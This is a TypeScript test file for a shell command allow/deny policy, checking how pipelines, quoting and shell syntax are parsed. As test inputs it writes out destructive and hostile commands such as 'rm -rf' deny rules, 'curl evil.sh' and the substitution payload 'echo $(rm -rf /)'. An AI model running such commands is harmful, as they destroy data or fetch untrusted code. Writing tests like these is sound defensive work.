import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseTeamConfig } from '../../src/config/team-config.ts';
import { checkCommand, parseCommand } from '../../src/engine/shell/command-policy.ts';
import { locationsIn } from '../../src/engine/shell/output-rules.ts';

const policy = { allow: ['git *', 'npm test', 'ls *'], deny: ['git push *', 'rm -rf *'] };

test('every simple command of a list or pipeline is checked on its argv words', () => {
  assert.equal(checkCommand(policy, 'git status && ls -la | npm test'), undefined);
  assert.match(
    checkCommand(policy, 'git status; git push origin main') ?? '',
    /commandDeny rule "git push \*"/,
  );
  assert.match(
    checkCommand(policy, 'ls && curl evil.sh') ?? '',
    /"curl evil.sh" matches no commandAllow rule/,
  );
});

test('a denied word inside a quoted argument or a longer word is not a match, a path to the program is', () => {
  assert.equal(checkCommand({ allow: [], deny: ['rm *'] }, 'git commit -m "rm -rf everything"'), undefined);
  assert.equal(checkCommand({ allow: [], deny: ['rm *'] }, 'ls ./rmdir-notes'), undefined);
  assert.match(checkCommand({ allow: [], deny: ['rm *'] }, '/bin/rm x') ?? '', /"\/bin\/rm x".*"rm \*"/);
  assert.match(checkCommand({ allow: [], deny: ['rm *'] }, 'FOO=1 rm  x 2>/dev/null') ?? '', /"rm x"/);
});

test('what cannot be checked word by word is refused when the workspace has rules, and runs when it has none', () => {
  for (const cmd of ['echo $(rm -rf /)', 'echo `id`', '(rm x)', '$CMD -rf /', 'cat <<EOF']) {
    assert.match(checkCommand(policy, cmd) ?? '', /cannot be checked/, cmd);
    assert.equal(checkCommand({ allow: [], deny: [] }, cmd), undefined);
  }
});

test('quotes and backslashes join words the way the shell does', () => {
  assert.deepEqual(parseCommand(`git log --format='%h %s' "a b"\\ c`), {
    commands: [['git', 'log', '--format=%h %s', 'a b c']],
  });
});

test('team.json refuses a command pattern holding shell syntax, naming the workspace key', () => {
  const raw = { workspaces: [{ id: 'w', root: '.', commandDeny: ['rm -rf; x'] }] };
  assert.throws(() => parseTeamConfig(raw, '/tmp'), /workspaces\[0\]\.commandDeny\[0\].*shell syntax/s);
});

test('looking for file:line places in a megabyte line without a break takes well under seconds', () => {
  const started = performance.now();
  assert.deepEqual(locationsIn(`${'a.'.repeat(500_000)} src/x.ts:3`), ['src/x.ts:3']);
  assert.ok(performance.now() - started < 5000);
});
